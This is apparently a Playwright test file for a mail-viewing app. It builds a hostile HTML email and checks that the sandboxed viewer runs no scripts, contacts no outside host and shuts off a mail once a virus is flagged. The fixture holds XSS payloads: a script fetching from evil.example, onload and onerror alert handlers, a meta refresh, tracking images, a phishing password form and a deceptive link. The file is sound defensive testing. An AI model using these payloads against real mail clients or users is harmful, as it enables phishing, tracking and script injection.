import type { Page } from "@playwright/test";
import { newId } from "@/lib/core/ids";
import { expectAccessible } from "../fixtures/axe";
import { askDatabase } from "../fixtures/people";
import { serverState } from "../fixtures/server";
import { expect, test } from "../fixtures/test";

const PIXEL =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/** A mail that tries what mails try: scripts, handlers, remote pictures and styles, forms, and a link that lies. */
function hostileMail(): Buffer {
  const html = [
    "<html><head><style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example/b.png)}</style>",
    "<script>parent.document.title='taken'; fetch('https://evil.example/c')</script>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/d"></head>',
    '<body onload="alert(1)"><p>Please delete <b>all my data</b>.</p>',
    '<img src="https://evil.example/e.png" alt="Our logo"><img src="https://tracker.example/f.gif" width="1" height="1">',
    '<img src="cid:logo@evil" alt="Drawn by us"><img src=x onerror="alert(2)">',
    '<a href="https://evil.example/g">https://northwind.example/sign-in</a>',
    '<form action="https://evil.example/h"><input name="password"><button>Sign in</button></form>',
    '<iframe src="https://evil.example/i"></iframe><object data="https://evil.example/j"></object></body></html>',
  ].join("\r\n");
  return Buffer.from(
    [
      "From: Eve <eve@evil.example>",
      "To: privacy@in.northwind.example",
      "Subject: Delete my data",
      `Message-ID: <${newId()}@evil.example>`,
      "Date: Tue, 24 Nov 2026 10:00:00 +0000",
      "MIME-Version: 1.0",
      'Content-Type: multipart/related; boundary="r"',
      "",
      "--r",
      "Content-Type: text/html; charset=utf-8",
      "",
      html,
      "--r",
      "Content-Type: image/png",
      "Content-ID: <logo@evil>",
      'Content-Disposition: inline; filename="logo.png"',
      "Content-Transfer-Encoding: base64",
      "",
      PIXEL,
      "--r--",
      "",
    ].join("\r\n"),
  );
}

async function dropMail(page: Page): Promise<string> {
  const response = await page.request.post("/files/mail", {
    headers: { origin: serverState().baseUrl, accept: "application/json" },
    multipart: { files: { name: "a.eml", mimeType: "message/rfc822", buffer: hostileMail() } },
  });
  expect(response.status()).toBe(201);
  return (await response.json()).mails[0].rawMailId;
}

test("a hostile mail is shown as formatted in a frame where nothing runs and nothing leaves, and is shut once a virus was found in it", async ({
  openAs,
}) => {
  const page = await openAs("officer", { noScript: false });
  const rawMailId = await dropMail(page);
  const asked: string[] = [];
  page.context().on("request", (request) => asked.push(request.url()));
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs += 1;
    return dialog.dismiss();
  });
  await page.goto(`/desk/mail/${rawMailId}`);
  const pane = page.getByRole("region", { name: "The mail", exact: true });
  await expect(pane.locator("iframe")).toHaveCount(0);
  await expect(pane).toContainText("Please delete");
  await pane.getByRole("link", { name: "Show as formatted" }).click();

  const frame = pane.frameLocator("iframe");
  await expect(frame.locator("b")).toHaveText("all my data");
  await expect(frame.locator("body")).toContainText("[Our logo at evil.example, not loaded]");
  await expect(frame.locator("body")).toContainText(
    "https://northwind.example/sign-in [https://evil.example/g]",
  );
  await expect(frame.locator("img")).toHaveAttribute("alt", "Drawn by us");
  await expect(frame.locator("img")).toHaveAttribute("src", `data:image/png;base64,${PIXEL}`);
  await expect(frame.locator("a, form, input, script, iframe, object")).toHaveCount(0);
  await expect(pane).toContainText("2 remote pictures were not loaded");
  await expect(pane).toContainText("evil.example, tracker.example");
  await expect(pane.locator("iframe")).toHaveAttribute("sandbox", "");
  await expect(page).toHaveTitle(/Forwarded mail/);
  await expectAccessible(page);

  const { origin } = new URL(serverState().baseUrl);
  expect(asked.some((url) => url.includes(`/files/mail/${rawMailId}/formatted`))).toBe(true);
  expect(asked.filter((url) => new URL(url).origin !== origin && !url.startsWith("data:"))).toEqual(
    [],
  );
  expect(dialogs).toBe(0);

  const shown = await page.request.get(`/files/mail/${rawMailId}/formatted`);
  const headers = shown.headers();
  expect(headers["content-security-policy"]).toMatch(
    /^sandbox; default-src 'none'; style-src 'sha256-[^']+'; img-src data:; base-uri 'none'; form-action 'none'; frame-ancestors 'self'$/,
  );
  expect(headers["x-frame-options"]).toBe("SAMEORIGIN");
  expect(headers["referrer-policy"]).toBe("no-referrer");
  expect(headers["cache-control"]).toBe("private, no-store");
  for (const who of ["admin", "auditor", "member"] as const) {
    const other = await openAs(who);
    expect((await other.request.get(`/files/mail/${rawMailId}/formatted`)).status()).toBe(403);
  }

  await askDatabase(
    "update raw_mail set scan_state = 'infected', scan_finding = 'Win.Test.EICAR_HDB-1', scanned_at = now() where id = $1",
    [rawMailId],
  );
  await page.reload();
  await expect(page.getByText("Virus found: Win.Test.EICAR_HDB-1")).toBeVisible();
  await expect(page.getByRole("link", { name: /^Original, / })).toHaveCount(0);
  // Its words can still be read; a picture is bytes of it.
  await expect(frame.locator("b")).toHaveText("all my data");
  await expect(frame.locator("img")).toHaveCount(0);
  await expect(page.getByRole("link", { name: "Why nobody can save it" })).toHaveAttribute(
    "href",
    `/desk/held/mail/${rawMailId}`,
  );
  await page.goto(`/files/mail/${rawMailId}`);
  await expect(page).toHaveURL(new RegExp(`/desk/held/mail/${rawMailId}$`));
  await expect(page.getByText("A virus was found in this file")).toBeVisible();
  const refused = await page.request.get(`/files/mail/${rawMailId}`, {
    headers: { accept: "application/json" },
  });
  expect([refused.status(), await refused.json()]).toEqual([
    409,
    { error: "held_back", why: "virus" },
  ]);
});
